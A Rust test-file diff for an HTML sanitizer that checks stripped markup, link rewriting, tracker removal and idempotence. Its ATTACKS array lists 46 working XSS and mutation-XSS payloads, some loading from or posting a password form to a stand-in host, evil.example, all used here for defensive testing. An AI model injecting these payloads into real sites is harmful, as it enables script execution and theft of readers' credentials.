@@ -1,0 +1,171 @@
+//! Markup made to get through, and markup that has to stay.
+
+use proptest::prelude::*;
+
+use super::*;
+
+fn base() -> Url {
+    Url::parse("https://ada.example/posts/talk").unwrap()
+}
+
+fn safe(html: &str) -> String {
+    safe_html(html, Some(&base()))
+}
+
+/// Markup that has got through one cleaner or another, by the ways it took.
+const ATTACKS: [&str; 46] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<object data='data:text/html,x'></object>",
+    "<embed src='//evil.example/x.swf'>",
+    "<form action='//evil.example'><input name=password><button>x</button></form>",
+    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<p style='background:url(//evil.example/x.png)'>x</p>",
+    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href='//evil.example/'>",
+    "<video poster='//evil.example/x.png'><source src='//evil.example/x.mp4' onerror=alert(1)></video>",
+    "<audio src='//evil.example/x.mp3' autoplay onplay=alert(1)></audio>",
+    "<img srcset='//evil.example/x.png 1x'>",
+    "<picture><source srcset='//evil.example/x.png'><img src='//evil.example/y.png'></picture>",
+    "<body background='//evil.example/x.png' onload=alert(1)>x</body>",
+    "<table background='//evil.example/x.png'><tr><td background='//evil.example/y.png'>x</td></tr></table>",
+    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
+    "<select><option><img src=x onerror=alert(1)></select>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<p id='x\"><img src=x onerror=alert(1)>'>x</p>",
+    "<a title='<img src=x onerror=alert(1)>' href=/y>x</a>",
+    "<p/onclick=alert(1)//x>x</p>",
+    "<a href='//evil.example' target=_blank ping='//evil.example/p'>x</a>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+];
+
+/// Elements, attributes and addresses that act or load: of a tree, since in texts all may be said.
+fn assert_harmless(html: &str, made: &str) {
+    let tree = scraper::Html::parse_fragment(html);
+    for element in tree.tree.values().filter_map(scraper::Node::as_element) {
+        let name = element.name();
+        assert!(["html", "head", "body"].contains(&name) || TAGS.contains(&name), "{name} in {html} of {made}");
+        for (attribute, value) in element.attrs() {
+            let held = [
+                "href", "data-src", "alt", "width", "height", "lang", "dir", "title", "id", "rel", "start", "reversed",
+                "type", "value", "colspan", "rowspan", "headers", "scope", "span", "datetime",
+            ];
+            assert!(held.contains(&attribute), "{attribute} in {html} of {made}");
+            if matches!(attribute, "href" | "data-src") {
+                let fits = ["http://", "https://", "mailto:", "#e-"].iter().any(|scheme| value.starts_with(scheme));
+                assert!(fits, "{value} in {html} of {made}");
+            }
+        }
+    }
+}
+
+#[test]
+fn nothing_that_acts_or_loads_gets_through() {
+    for attack in ATTACKS {
+        let html = safe(attack);
+        assert_harmless(&html, attack);
+        assert_eq!(safe(&html), html, "made safe again: {attack}");
+    }
+}
+
+#[test]
+fn what_shapes_a_text_stays() {
+    let html = "<h2>Why</h2><p>One <em>thing</em>, <code>x &lt; y</code>.</p><ul><li>a</li><li>b</li></ul><blockquote><p>q</p></blockquote>\
+        <pre><code>fn main()</code></pre><table><tbody><tr><th scope=\"col\">n</th><td colspan=\"2\">1</td></tr></tbody></table>";
+    assert_eq!(safe(html), html);
+}
+
+#[test]
+fn links_are_whole_and_tell_nobody_where_the_reader_comes_from() {
+    for (href, expected) in [
+        ("/about", "https://ada.example/about"),
+        ("next?utm_source=feed&page=2&utm_medium=rss", "https://ada.example/posts/next?page=2"),
+        ("https://b.example/?fbclid=1", "https://b.example/"),
+        ("//b.example/x", "https://b.example/x"),
+        ("mailto:ada@ada.example", "mailto:ada@ada.example"),
+    ] {
+        let html = safe(&format!("<a href='{href}' target=_blank>x</a>"));
+        assert_eq!(html, format!("<a href=\"{expected}\" rel=\"noopener noreferrer nofollow\">x</a>"), "{href}");
+    }
+    assert!(!safe_html("<a href='/about'>x</a>", None).contains("href"));
+}
+
+#[test]
+fn footnotes_find_their_way_there_and_back() {
+    let html = safe("<p>So<sup id=r1><a href='#n1'>1</a></sup></p><ol><li id=n1>Note <a href='#r1'>↩</a></li></ol>");
+    assert!(
+        html.contains("id=\"e-r1\"")
+            && html.contains("href=\"#e-n1\"")
+            && html.contains("id=\"e-n1\"")
+            && html.contains("href=\"#e-r1\""),
+        "{html}"
+    );
+    assert_eq!(safe(&html), html);
+}
+
+#[test]
+fn pictures_wait_for_the_reader_and_counters_go() {
+    assert_eq!(
+        safe("<img src='/a.png' alt='A &quot;b&quot;' width=640 onload=x>"),
+        "<img data-src=\"https://ada.example/a.png\" alt=\"A &quot;b&quot;\" width=\"640\">"
+    );
+    for gone in [
+        "<img src='https://x.example/p' width=1 height=1>",
+        "<img src='https://x.example/p' width=0>",
+        "<img src='https://feeds.feedburner.com/~r/x/4'>",
+        "<img src='data:image/png;base64,x'>",
+        "<img>",
+    ] {
+        assert_eq!(safe(gone), "", "{gone}");
+    }
+    assert_eq!(safe("<p title='<img src=x>'>y</p>"), "<p title=\"&lt;img src=x&gt;\">y</p>");
+}
+
+#[test]
+fn a_tree_made_to_hurt_is_shown_as_its_text() {
+    let html = format!("{}deep{}", "<div>".repeat(5_000), "</div>".repeat(5_000));
+    assert_eq!(safe(&html), "deep");
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn made_safe_again_it_is_the_same(
+        parts in prop::collection::vec(
+            prop_oneof![
+                2 => prop::sample::select(ATTACKS.as_slice()).prop_map(str::to_owned),
+                4 => "<(/?)(p|div|a|b|i|table|tr|td|li|ul|svg|math|style|select|form|img|pre|title|mglyph|mtext|noscript)( (id|href|title|src)=[\"']?[a-z#:/<>]{0,6}[\"']?)?>",
+                2 => "[a-z <>&\"'=/!-]{0,12}",
+            ],
+            0..12,
+        )
+    ) {
+        let html = safe(&parts.concat());
+        prop_assert_eq!(&safe(&html), &html);
+        assert_harmless(&html, &parts.concat());
+    }
+}
